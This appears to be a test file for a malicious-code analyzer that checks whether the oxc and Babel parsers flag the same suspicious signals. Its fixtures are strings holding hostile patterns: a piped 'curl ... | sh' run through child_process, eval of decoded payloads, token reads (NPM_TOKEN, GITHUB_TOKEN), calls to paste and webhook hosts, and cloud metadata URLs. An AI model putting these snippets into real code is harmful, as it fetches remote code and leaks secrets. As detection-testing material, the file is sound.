/**
 * oxc reads code first because it is several times faster than Babel; it is kept only because it finds
 * the same things. Every fixture of the analyzer tests is analysed with each parser and the reports
 * must be identical, and a set of code shapes (CommonJS, ESM, TypeScript, JSX, decoders, folding,
 * non-ASCII text before a signal) must give the same signals at the same lines.
 */
import { after, test } from 'node:test';
import assert from 'node:assert/strict';
import { analyze } from '../../server/analyzer';
import { scanCode, useParser, type ParserChoice } from '../../server/analyzer/code/scan-file';
import { BENIGN, INCIDENTS } from './fixtures/incidents';

after(() => useParser('oxc'));

function withParser<T>(choice: ParserChoice, run: () => T): T {
  useParser(choice);
  try {
    return run();
  } finally {
    useParser('oxc');
  }
}

const SHAPES: Array<[name: string, code: string, kind?: 'js' | 'ts', path?: string]> = [
  [
    'commonjs with decoders',
    "const cp = require('child_process');\nconst u = Buffer.from('aHR0cHM6Ly8yMDMuMC4xMTMuOS94', 'base64').toString();\neval(atob(p));\nfor (const k in process.env) send(k);\n",
  ],
  [
    'esm with dynamic import and fetch',
    "import https from 'node:https';\nexport * from './lib/x.js';\nconst m = await import('./y.js');\nfetch('https://webhook.site/abc');\n",
  ],
  [
    'folding and bindings',
    "const n = ['chi', 'ld_process'].join('');\nrequire(n)[String.fromCharCode(101,120,101,99)]('curl https://x.example | sh');\nmodule.constructor._load('ne' + 't');\nconst t = `${'h'}ttps://169.254.169.254/latest`;\n",
  ],
  [
    'non-ASCII text before signals',
    "// ünïcödé — 日本語 — emoji 🎉\nconst s = 'é'.repeat(3);\nrequire('https').get('https://pastebin.com/raw/x');\nprocess.env.NPM_TOKEN;\n",
  ],
  [
    'typescript',
    "import type { A } from './a';\nexport async function f(u: string): Promise<A> {\n  const r = await fetch(u) as Response;\n  return (await r.json()) as A;\n}\nenum E { X = 'https://203.0.113.5/x' }\n",
    'ts',
    'src/f.ts',
  ],
  [
    'jsx',
    'export const C = () => { new WebSocket(\'wss://ngrok.io/x\'); return <div title="https://paste.ee/x">{process.env.GITHUB_TOKEN}</div>; };\n',
    'js',
    'src/c.jsx',
  ],
  ['obfuscated identifiers', "var _0x1a2b=['a'],_0x3c4d=1,_0x5e6f=2,_0x7a8b=3,_0x9c0d=4;function _0xabcd(){return _0x1a2b;}\n"],
  [
    'env stringify and vm',
    "JSON.stringify({ env: process.env });\nconst vm = require('vm');\nvm.runInThisContext(code);\nnew vm.Script(src);\n",
  ],
];

const signature = (r: ReturnType<typeof scanCode>) => ({
  parsed: r.parsed,
  imports: [...r.relativeImports].sort(),
  signals: r.signals.map((s) => `${s.key}|${s.rule}|${s.severity}|${s.line}`).sort(),
});

for (const [name, code, kind = 'js', path = 'lib/x.js'] of SHAPES) {
  test(`oxc and Babel find the same signals on ${name}`, () => {
    const oxc = withParser('oxc', () => signature(scanCode(code, kind, path)));
    const babel = withParser('babel', () => signature(scanCode(code, kind, path)));
    assert.deepEqual(oxc, babel);
    assert.ok(oxc.signals.length > 0 || name === 'typescript', 'the shape must exercise something');
  });
}

test('every incident and benign fixture gives the same report with either parser', () => {
  for (const c of [...INCIDENTS, ...BENIGN]) {
    const oxc = withParser('oxc', () => analyze(c.previous, c.next));
    const babel = withParser('babel', () => analyze(c.previous, c.next));
    assert.deepEqual(oxc.findings, babel.findings, c.name);
  }
});
